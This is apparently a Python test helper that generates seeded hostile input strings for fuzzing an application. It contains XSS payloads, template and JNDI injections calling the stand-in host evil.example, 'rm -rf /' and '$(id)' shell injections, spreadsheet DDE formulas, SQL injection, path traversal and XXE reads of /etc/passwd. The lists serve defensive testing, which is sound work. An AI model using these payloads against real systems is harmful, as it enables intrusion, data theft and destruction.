"""Texts meant to do harm wherever a program forgets that a text is only a text: always the same ones, from a seed."""

import random
from typing import Final

MARK: Final = "__hacked"
"""The global that a script among the texts sets when it is run; it has to stay unset."""
RUN: Final = f"top.{MARK}=1"
EVIL: Final = "https://evil.example"

_SCRIPTS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}//",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<style>@import'{EVIL}/x.css';*{{background:url({EVIL}/x)}}</style>",
    f"<base href={EVIL}><link rel=stylesheet href={EVIL}/x.css>",
    f"<form action={EVIL}><button>提交</button></form><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<a href='javascript:{RUN}'>点我</a>",
    f"<img src='{EVIL}/x.png'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;{RUN}",
)
_TEMPLATES: Final = (
    f"${{{RUN}}}",
    f"`+({RUN})+`",
    f"\\`${{{RUN}}}",
    f"';{RUN};//",
    f'");{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{0.__class__.__init__.__globals__} {title} {} %s %(x)s %n %d {",
    "#{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/x} $(id) `id`; rm -rf / | cat",
    "${organisation} {hint} {field}: {sentence}",
)
_MARKUP: Final = (
    f"[点我](javascript:{RUN})",
    f"[看](data:text/html,<script>{RUN}</script>) ![x]({EVIL}/x.png)",
    f"[a]({EVIL} 'b') <{EVIL}> [r]: {EVIL}\n[r]",
    ":material/delete: :material/no_such_icon: :streamlit: :red[红] :blue-background[:red[x] :orange-badge[x]",
    ":red[未关 :gray[ :rainbow[ :small[ :material/",
    "# 标题\n- 项\n> 引\n```\n代码\n```\n---\n| a | b |\n|---|---|\n1. x",
    "**粗** _斜_ ~~删~~ `码` \\ \\\\ [^1] [^1]: x :smile: :+1: <br> <hr>",
    "$\\frac{1}{0}$ $$\\href{javascript:" + RUN + "}{x}$$ $\\unknown{",
    "$\\def\\a{\\a\\a}\\a$ $\\text{" + "{" * 20 + "$",
    "<b>粗</b><br/><a href='" + EVIL + "'>链接</a><sup>1</sup><extra></extra>%{x}%{customdata}",
    "@@@ [[x]] {{x}} ::: -> <- --- (c) (tm) ... -- 'x' \"x\"",
)
_FORMULAS: Final = (
    f'=HYPERLINK("{EVIL}","点我")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "'=1+1",
    ' =WEBSERVICE("' + EVIL + '")',
    "=1+1；=2+2|=3+3",
    '"=1+1","=2+2"\r\n"=3+3"',
    'DDE ("cmd";"/C calc")',
)
_CHARACTERS: Final = (
    "\u202e文反\u202c",
    "\u2066\u202dabc\u2069\u200f\u061c",
    "\x00",
    "a\x00b\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x80\x9f",
    "\ud800",
    "\udc00\ud800x",
    "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad",
    "\u2028\u2029\x85\x0b",
    "👨‍👩‍👧‍👦🏳️‍🌈🇨🇳👍🏽",
    "e\u0301" + "\u0301\u0327" * 40,
    "Z̵̢̛͙a̷l̶g̸o̶",
    "ﷺﷺ꧅𒐫𒈙⸻",
    "𠮷𡈽㐂\ue000\U000f0000",
    "ａｄｍｉｎ аdmin ɑdmin ⅰ Ⅷ ① ﬁ ẞ İ ı K Å",
    "支行 支\u3000行 支\xa0行 支\u200b行 ⽀⾏",
    "١٢٣ １２３ Ⅻ ²³ ½ 〇 ㊿ ∞ −1 1e999 NaN 0x10 1_000",
)
_PROGRAMS: Final = (
    "'; DROP TABLE event; --",
    "' OR '1'='1",
    "1) UNION SELECT password FROM account --",
    "%' ESCAPE '",
    "100%_\\%\\_",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "file:///etc/passwd",
    "CON", "NUL.txt", "a:b", "x" * 300 + ".jpg",
    "{\"$gt\": \"\"}",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "]]><![CDATA[ _x0041_ _x0000_ _xD800_ &#0; &amp;amp;",
    "null", "None", "undefined", "true", "[]", "{}", "0", "-0", "NaN", "1e309", "不详", "—", "#", "；", "|", "\\", "、",
    "99999999999999999999", "-1", "1.5", "2024-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2024-09-04T99:99",
    "一亿亿亿", "多余近超约", "60余多近", "第十三季度", "2024年13月32日",
)  # fmt: skip
FAMILIES: Final = {
    "script": _SCRIPTS,
    "template": _TEMPLATES,
    "markup": _MARKUP,
    "formula": _FORMULAS,
    "characters": _CHARACTERS,
    "program": _PROGRAMS,
}
ALL: Final = tuple(text for family in FAMILIES.values() for text in family)
_FULL_WIDTH: Final = str.maketrans({c: chr(c + 0xFEE0) for c in range(0x21, 0x7F)})
_LONGEST: Final = 20_000


def hostile_texts(number: int, *, seed: int = 20260315) -> list[str]:
    """So many texts: first each of the collected ones, then mixtures of them. The same seed gives the same texts."""
    chance = random.Random(seed)  # noqa: S311 - to be repeated, not to be secret
    texts = list(ALL[:number])
    chance.shuffle(texts)
    while len(texts) < number:
        texts.append(_mixed(chance))
    return texts


def short(text: str, most: int) -> str:
    """The text cut so that a field takes it, and never blank."""
    cut = text[:most]
    return cut if any(c.isprintable() and not c.isspace() for c in cut) else "x" + cut[: most - 1]


def _mixed(chance: random.Random) -> str:
    text = "".join(chance.choice(ALL) for _ in range(chance.choice((1, 1, 2, 2, 3))))
    match chance.randrange(9):
        case 0:
            at = chance.randrange(len(text) + 1)
            text = text[:at] + chance.choice(_CHARACTERS) + text[at:]
        case 1:
            text = text.translate(_FULL_WIDTH)
        case 2:
            text = text.swapcase()
        case 3:
            text = "讲座" + text + "进社区"
        case 4:
            text = "".join(chance.sample(text, len(text)))
        case 5:
            text = text[::-1]
        case 6 if chance.random() < 0.1:
            text = (text * _LONGEST)[: chance.randrange(_LONGEST)]
        case _:
            pass
    return text
